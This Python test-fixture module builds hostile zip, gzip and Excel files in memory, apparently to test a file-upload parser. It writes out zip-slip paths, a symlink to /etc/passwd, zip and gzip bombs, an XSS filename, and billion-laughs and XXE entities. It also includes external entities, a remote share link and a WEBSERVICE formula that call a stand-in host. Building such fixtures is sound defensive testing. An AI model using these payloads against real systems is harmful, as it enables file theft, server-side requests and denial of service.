"""Zips, gzips and workbooks that would climb out, grow without end, or ask for another file; made in memory."""

import gzip
import io
import stat
import zipfile
from collections.abc import Mapping
from functools import cache
from typing import Final

import openpyxl

_DOCTYPE: Final = '<?xml version="1.0"?><!DOCTYPE x [{}]>'
_LAUGHS: Final = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
_PLAIN_ROWS: Final = (("date", "postcode"), ("14/05/2024", "ZZ1 1AA"))


def zipped(parts: Mapping[str, bytes | str]) -> bytes:
    """Zip files held in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


@cache
def workbook(rows: tuple[tuple[object, ...], ...] = _PLAIN_ROWS) -> bytes:
    """Write rows as a workbook, every text as a text and no formula."""
    book = openpyxl.Workbook()
    for row_number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = book.active.cell(row_number, column, value)
            cell.data_type = "s" if isinstance(value, str) else cell.data_type
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def reworked(changes: Mapping[str, bytes | str]) -> bytes:
    """Replace or add parts of a sound workbook."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, **changes})


def archives(table: bytes, name: str) -> dict[str, bytes]:
    """Make zips and gzips around a sound table, each unsafe in one way."""
    sound = zipped({name: table})
    climbing = ("../" + name, "/" + name, "C:\\" + name, "..\\" + name, "a/../../" + name, "\\\\host\\" + name)
    return {
        **{f"zip climbs as {shown!r}": zipped({shown: table}) for shown in climbing},
        "zip of a link": _link(name),
        "zip bomb by ratio": zipped({name: b"0" * 5_000_000}),
        "zip bomb nested": zipped({"inner.zip": zipped({name: b"0" * 3_000_000}), name: table}),
        "zip of many entries": zipped({f"{at}.csv": "" for at in range(6_000)}),
        "zip that lies of its size": _lying(sound, declared=5),
        "zip that says four gigabytes": _lying(sound, declared=0xFFFFFFF0),
        "zip with a name twice": _twice(name, table),
        "zip with NUL in a name": zipped({name + "x": table}).replace(b"x", b"\0"),
        "zip with a long name": zipped({"a" * 60_000 + ".csv": table}),
        "zip with a name that runs": zipped({"<img src=x onerror=alert(1)>HOSTILE.csv": table}),
        "zip cut short": sound[: len(sound) // 2],
        "zip without its end": sound[:-22],
        "zip with a bit turned": _flipped(sound, 40),
        "zip with its method changed": sound.replace(b"\x08\x00", b"\x63\x00"),
        "zip said to be encrypted": _flagged(sound),
        "zip that is only its start": b"PK\x03\x04",
        "zip empty": zipped({}),
        "gzip bomb": _gzip_bomb(),
        "gzip cut short": gzip.compress(table)[:-12],
        "gzip with a bit turned": _flipped(gzip.compress(table), 14),
        "gzip of a gzip": gzip.compress(gzip.compress(table)),
        "gzip only its start": b"\x1f\x8b",
    }


def workbooks() -> dict[str, bytes]:
    """Make workbooks that are unsafe, or lie about what they hold."""
    declared = {
        "billion laughs": _DOCTYPE.format('<!ENTITY l0 "HOSTILE">' + _LAUGHS) + "<x>&l9;</x>",
        "external entity": _DOCTYPE.format('<!ENTITY e SYSTEM "file:///etc/passwd">') + "<x>&e;</x>",
        "external entity of the web": _DOCTYPE.format('<!ENTITY e SYSTEM "http://hostile.invalid/">') + "<x>&e;</x>",
        "parameter entity": _DOCTYPE.format('<!ENTITY % p SYSTEM "http://hostile.invalid/">%p;') + "<x/>",
        "late entity": "<?xml version='1.0'?>" + " " * 5_000 + _DOCTYPE[21:].format(_LAUGHS) + "<x>&l9;</x>",
        "UTF-16 entity": (_DOCTYPE.format(_LAUGHS).replace("1.0", "1.0' encoding='utf-16") + "<x/>").encode("utf-16"),
        "nested deeply": "<x>" * 100_000,
        "not XML": "HOSTILE",
    }
    parts = ("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml")
    made = {
        f"{kind} in {part.rsplit('/')[-1]}": reworked({part: text}) for kind, text in declared.items() for part in parts
    }
    return made | {
        "huge dimension": reworked({"xl/worksheets/sheet1.xml": _sheet('<c r="XFD1048576"><v>1</v></c>', 1_048_576)}),
        "cell beyond the sheet": reworked({"xl/worksheets/sheet1.xml": _sheet('<c r="ZZZZ1"><v>1</v></c>', 1)}),
        "shared text that is not there": reworked({"xl/worksheets/sheet1.xml": _sheet('<c t="s"><v>999</v></c>', 1)}),
        "number of no end": reworked({"xl/worksheets/sheet1.xml": _sheet("<c><v>1e999</v></c>", 1)}),
        "day of no calendar": reworked({"xl/worksheets/sheet1.xml": _sheet('<c t="d"><v>9999-99-99</v></c>', 1)}),
        "row beyond the sheet": reworked({"xl/worksheets/sheet1.xml": _sheet('<c r="A99999999"/>', 99_999_999)}),
        "macros renamed": reworked({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0HOSTILE"}),
        "link to another book": reworked({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        "link to a share": reworked({"xl/_rels/workbook.xml.rels": _remote_sheet()}),
        "climbing part": reworked({"../xl/evil.xml": "HOSTILE"}),
        "shared strings bomb": reworked({"xl/sharedStrings.xml": "<si><t>HOSTILE</t></si>" * 1_000_000}),
        "many parts": reworked({f"xl/media/{at}.png": "" for at in range(6_000)}),
        "formula without a result": _formula(),
        "workbook cut short": workbook()[:3000],
        "workbook with a bit turned": _flipped(workbook(), 900),
        "old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "protected workbook": b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"),
    }


@cache
def _gzip_bomb() -> bytes:
    return gzip.compress(b"0" * 52_000_000, 1)


def _sheet(cell: str, row: int) -> str:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{space}"><sheetData><row r="{row}">{cell}</row></sheetData></worksheet>'


def _remote_sheet() -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    target = 'Target="file://hostile.invalid/share/x.xml" TargetMode="External"'
    return f'<Relationships xmlns="{space}"><Relationship Id="rId1" Type="{kind}" {target}/></Relationships>'


def _formula() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(("date", "postcode"))
    book.active.append(("14/05/2024", '=WEBSERVICE("http://hostile.invalid/")'))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _link(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _twice(name: str, table: bytes) -> bytes:
    once = zipped({name: table, "x" * len(name): table})
    return once.replace(b"x" * len(name), name.encode())


def _lying(content: bytes, *, declared: int) -> bytes:
    """Say another unpacked size in the zip's directory than is true."""
    at = content.rindex(b"PK\x01\x02") + 24
    return content[:at] + declared.to_bytes(4, "little") + content[at + 4 :]


def _flagged(content: bytes) -> bytes:
    at = content.rindex(b"PK\x01\x02") + 8
    return content[:at] + b"\x01" + content[at + 1 :]


def _flipped(content: bytes, at: int) -> bytes:
    return content[:at] + bytes([content[at] ^ 0x10]) + content[at + 1 :]
